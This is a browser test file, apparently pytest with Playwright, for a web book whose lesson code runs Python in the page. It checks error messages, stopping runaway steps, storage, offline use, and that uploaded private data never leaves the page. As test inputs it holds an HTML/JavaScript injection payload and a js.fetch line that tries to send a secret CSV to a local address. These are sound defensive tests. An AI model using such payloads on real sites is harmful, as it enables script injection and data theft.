"""A lesson's code runs in its page, in a real browser, and nothing of it leaves."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request

from tests.book.live import Step, open_page, small_book
from tests.browser import axe_violations, serve, until
from tools.book_toc import read_lessons
from tools.lesson_source import ROOT, Lesson

WHO = "lessons/bias-and-fairness/who-is-missing.html"
SMALL = "lessons/small-things/who-came.html"
SECRETS = ["Zebedee Quillfeather", "QQ123456C", "zebedee@secret.example", "L8 9ZZ"]
NO_STORAGE = """
  Storage.prototype.setItem = () => { throw new DOMException("full", "QuotaExceededError"); };
  Object.defineProperty(globalThis, "caches", { value: undefined });
"""
ALL_CELLS = """async ([address, codes]) => {
  const { Python } = await import(address);
  globalThis.python ??= new Python(() => {});
  const faults = [];
  for (const code of codes) {
    const parts = await globalThis.python.run(code, codes);
    faults.push(...parts.filter((part) => part.kind === "error").map((part) => [code, part.text]));
  }
  return faults;
}"""


def runnable(lesson: Lesson) -> list[str]:
    left_out = {"facilitator", "notebook-only"}
    return [c.source for c in lesson.cells if c.kind == "code" and not c.tags & left_out]


@pytest.fixture(scope="module")
def small_site(browser_python: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    made = small_book(tmp_path_factory.mktemp("small"), browser_python)
    with serve(made.html) as address:
        yield address


@pytest.mark.spread
@pytest.mark.slow
def test_every_cell_of_every_lesson_runs_on_the_browsers_own_versions(
    browser: Browser, site: str
) -> None:
    page = open_page(browser, f"{site}/{WHO}")
    for lesson in read_lessons(ROOT / "book"):
        address = f"{site}/_static/python.mjs"
        faults = page.evaluate(ALL_CELLS, [address, runnable(lesson)])
        assert faults == [], lesson.id
    page.context.close()


@pytest.fixture(scope="module")
def asked() -> list[str]:
    return []


@pytest.fixture(scope="module")
def reader(browser: Browser, site: str, asked: list[str]) -> Iterator[Page]:
    """A reader who pressed Run at step 5 while the connection broke, and pressed it again."""
    page = open_page(browser, "about:blank")
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.route("**/python/pandas*", lambda route: route.abort())
    page.goto(f"{site}/{WHO}")
    assert not [url for url in asked if "/python/" in url]  # nothing before it is asked for
    said = Step(page, 5).run()
    assert said.startswith("The connection was cut while Python was being fetched."), said
    page.context.unroute("**/python/pandas*")
    asked.clear()
    assert Step(page, 5).run().startswith("Step 5 ran.")
    yield page
    page.context.close()


@pytest.mark.slow
def test_a_step_runs_with_those_before_it_and_what_came_before_a_cut_is_not_fetched_again(
    reader: Page, asked: list[str]
) -> None:
    fifth = Step(reader, 5)
    assert "Steps 1 to 4 ran first" in fifth.says()
    assert re.search(r"Asian\s+2\.96", fifth.shows())
    assert reader.locator(f"{fifth.cell} table caption").count() == 1
    wheels = {url.rpartition("/")[2].split("-")[0] for url in asked if ".whl" in url}
    assert "pandas" in wheels
    assert len(wheels) <= 3, wheels  # besides, only what was on its way when the line broke
    assert "SYNTHETIC" in Step(reader, 3).shows()


@pytest.mark.slow
def test_the_live_page_is_faultless_in_both_themes_and_on_a_narrow_screen(reader: Page) -> None:
    Step(reader, 2).run()
    alternative = reader.locator(f"{Step(reader, 2).cell} img").get_attribute("alt")
    assert alternative
    assert alternative.startswith("Registered patients for each resident.")
    Step(reader, 2).type("gd.table")
    for scheme in ("light", "dark"):
        reader.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        assert axe_violations(reader) == []
    reader.set_viewport_size({"width": 320, "height": 600})
    assert reader.evaluate("document.documentElement.scrollWidth") <= 320
    reader.set_viewport_size({"width": 1280, "height": 900})
    Step(reader, 2).press("Undo my changes to step 2")
    assert reader.locator(f"{Step(reader, 2).cell} img").count() == 1


@pytest.mark.slow
def test_a_mistake_is_told_in_plain_words_and_harmful_html_does_nothing(reader: Page) -> None:
    first = Step(reader, 1)
    assert first.run("refferals = gd.load('warm-homes')\nrefferal").startswith(
        "Step 1 did not work."
    )
    assert "What probably happened" in first.shows()
    assert "Did you mean refferals" in first.says().replace('"', "").replace("'", "")
    first.run("gd.load('wram-homes')")
    assert 'Not yet: There is no data set called "wram-homes". Did you mean' in first.says()
    assert "Traceback" not in first.shows()
    attack = (
        "import pandas as pd\nclass Bad(pd.DataFrame):\n  def _repr_html_(self):\n    return "
        '\'<p onclick="hit()">Read<script>window.hit = 1</script><img src=x onerror=hit()>'
        "<a href=\"javascript:hit()\">this</a></p>'\nBad.__module__ = 'pandas'\nBad()"
    )
    first.run(attack)
    assert first.shows().strip() == "Readthis", first.shows()
    inside = reader.locator(f"{first.cell} > .cell_output").inner_html()
    assert not re.search(r"script|onclick|onerror|src=|href=", inside), inside
    first.press("Undo my changes to step 1")


@pytest.mark.slow
def test_checks_questions_and_things_to_move_work_in_new_results(reader: Page) -> None:
    first = Step(reader, 1)
    first.run("gd.check('who-is-missing/ratio', 0.57)")
    kept = json.loads(reader.evaluate("localStorage.getItem('greaterdata:v1:answers')"))
    assert kept["who-is-missing/ratio"]["state"] == "right"
    first.run("gd.question('who-is-missing/most-missed')")
    asked = reader.locator(f"{first.cell} .gd-question")
    asked.get_by_role("radio").first.check()
    asked.get_by_role("button", name="Keep my guess").click()
    assert "You said" in asked.inner_text()
    first.run("gd.steps('one-call-five-records')")
    reader.locator(f"{first.cell} .gd-explore").get_by_role("button", name="Next step").click()
    assert reader.locator(f"{first.cell} .gd-view:visible").count() == 1
    first.run("import matplotlib.pyplot as plt\nplt.plot([1, 2]);\nprint('drawn')")
    assert "drawn" in first.shows()
    assert reader.locator(f"{first.cell} img").get_attribute("alt")
    assert axe_violations(reader) == []
    first.press("Undo my changes to step 1")


@pytest.mark.slow
def test_a_runaway_step_is_stopped_and_the_page_stays_of_use(reader: Page) -> None:
    first = Step(reader, 1)
    first.type("print('before')\nwhile True:\n    pass")
    first.press("Run step 1")
    reader.get_by_text("Running…").wait_for()
    reader.get_by_role("link", name="Search").focus()  # the page itself is not held up
    first.press("Stop step 1")
    assert first.end().startswith("Stopped. What you typed is kept")
    assert "while True" in reader.get_by_label("Code of step 1", exact=True).input_value()
    assert first.run("1 + 1").startswith("Step 1 ran.")
    assert first.shows().strip() == "2"


@pytest.mark.slow
def test_changes_outlive_a_reload_go_along_as_a_notebook_and_are_forgotten_when_asked(
    reader: Page, site: str, asked: list[str]
) -> None:
    reader.context.set_offline(True)
    reader.reload()  # a second visit, without a connection
    first = Step(reader, 1)
    assert reader.get_by_label("Code of step 1", exact=True).input_value() == "1 + 1"
    assert first.run("2 + 3").startswith("Step 1 ran.")
    assert first.shows().strip() == "5"
    reader.context.set_offline(False)
    with reader.expect_download() as download:
        reader.get_by_role("button", name="Save as a notebook, with my changes").click()
    notebook = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    sources = ["".join(cell["source"]) for cell in notebook["cells"]]
    assert "2 + 3" in sources
    assert any(source.startswith("could_come = gd.residents") for source in sources)
    other = reader.context.new_page()
    other.goto(f"{site}/{WHO}")
    Step(other, 4).type("people.shape")
    Step(other, 1).type("7")
    reader.get_by_text("This step was changed in another tab.").first.wait_for()
    until(reader, "localStorage.getItem('greaterdata:v1:edits').includes('\"7\"')")
    edits = json.loads(reader.evaluate("localStorage.getItem('greaterdata:v1:edits')"))
    assert {each["now"] for each in edits["who-is-missing"]} == {"7", "people.shape"}
    reader.get_by_role("button", name="Forget my answers on this browser").click()
    assert "So were your changes to code." in reader.locator(".gd-forgotten").inner_text()
    assert reader.evaluate("localStorage.getItem('greaterdata:v1:edits')") is None
    assert reader.get_by_role("button", name="Change step 1", exact=True).is_visible()
    assert [url for url in asked if not url.startswith((site, "data:", "blob:"))] == []


@pytest.mark.slow
def test_a_step_rewritten_since_leaves_what_the_reader_wrote_in_sight(
    browser: Browser, small_site: str
) -> None:
    old = {"who-came": [{"was": "tea = [3]", "nth": 0, "now": "tea = [30]"}]}
    page = open_page(
        browser, "about:blank", f"localStorage.setItem('greaterdata:v1:edits', '{json.dumps(old)}')"
    )
    page.goto(f"{small_site}/{SMALL}")
    aside = page.get_by_role("complementary", name="This lesson was updated since you changed it")
    aside.locator("summary").click()
    assert "tea = [30]" in aside.inner_text()
    assert axe_violations(page) == []
    page.context.close()


@pytest.mark.slow
def test_a_file_of_secrets_is_read_in_the_page_and_nothing_of_it_leaves(
    browser: Browser, small_site: str, tmp_path: Path
) -> None:
    lines = ["name,number,email,postcode", *[",".join(SECRETS)] * 3]
    secret = tmp_path / "Quillfeather-cases.csv"
    secret.write_text("\n".join(lines), encoding="utf-8")
    sent: list[str] = []

    def note(request: Request) -> None:
        sent.append(f"{request.url} {request.headers} {request.post_data or ''}")

    page = open_page(browser, "about:blank")
    page.context.on("request", note)
    page.goto(f"{small_site}/{SMALL}")
    assert "This step runs in the notebook alone" in page.locator("main").inner_text()
    opening, saving = Step(page, 3), Step(page, 5)
    opening.run()
    assert "There is no file" in opening.says()
    assert "Choose your file above this step first" in opening.says()
    page.get_by_label("Choose your file").set_input_files(secret)
    assert saving.run().startswith("Step 5 ran.")
    assert 'Your file "Quillfeather-cases.csv" has 3 rows' in opening.shows()
    assert "Every value is like postcodes" in opening.shows()
    with page.expect_download() as download:
        page.get_by_role("button", name="Save the file saved.csv").click()
    assert "Zebedee" in Path(download.value.path()).read_text(encoding="utf-8")
    tried = "import js\njs.fetch(f'http://127.0.0.1:9/?{mine.table.to_csv()}')\nNone"
    opening.run(tried)
    assert axe_violations(page) == []
    hidden = ["Zebedee", "Quillfeather", "QQ123456C", "9ZZ"]
    assert [line for line in sent if any(word in line for word in hidden)] == []
    assert all(line.startswith((small_site, "blob:", "data:")) for line in sent)
    stored: dict[str, Any] = page.evaluate("({ ...localStorage })")
    assert not any(word in json.dumps(stored) for word in hidden)
    big = tmp_path / "big.csv"
    with big.open("wb") as file:
        file.write(b"name,visits\n")
        file.truncate(500_000_000)
    opening.run('mine = gd.own("my-file.csv")')
    page.get_by_label("Choose your file").set_input_files(big)
    assert opening.run().startswith("Step 3 did not work.")
    assert '"big.csv" has 500 MB, and a page can open 50 MB.' in opening.says()
    page.context.close()


@pytest.mark.slow
def test_each_fault_while_python_is_fetched_has_a_sentence_of_its_own(
    browser: Browser, small_site: str
) -> None:
    page = open_page(browser, f"{small_site}/{SMALL}")
    first = Step(page, 1)
    page.context.route("**/python/numpy*", lambda route: route.fulfill(status=404))
    assert "A part of Python is missing on this site (numpy" in first.run()
    page.context.unroute("**/python/numpy*")
    page.context.route("**/python/numpy*", lambda route: route.fulfill(body="not numpy"))
    assert "is not the file it should be, so it is not used" in first.run()
    page.context.unroute("**/python/numpy*")
    page.context.route("**/python/browser-python.json", lambda route: route.abort())
    page.evaluate("caches.delete('greaterdata-python')")
    assert "The connection was cut" in first.run()
    assert "7" in first.cell or "7" in page.locator("main").inner_text()  # the lesson still stands
    page.context.close()


@pytest.mark.slow
def test_a_browser_too_old_and_one_that_keeps_nothing_are_told_so_and_lose_nothing(
    browser: Browser, small_site: str
) -> None:
    address = f"{small_site}/{SMALL}"
    old = open_page(browser, address, "delete globalThis.WebAssembly")
    assert "This browser cannot run Python in a page" in Step(old, 1).run()
    old.context.close()
    private = open_page(browser, address, NO_STORAGE)
    step = Step(private, 1)
    step.type("tea = [5]\nsum(tea)")
    private.get_by_text("This browser does not keep your changes").wait_for()
    assert step.run().startswith("Step 1 ran.")
    assert step.shows().strip() == "5"
    private.context.close()
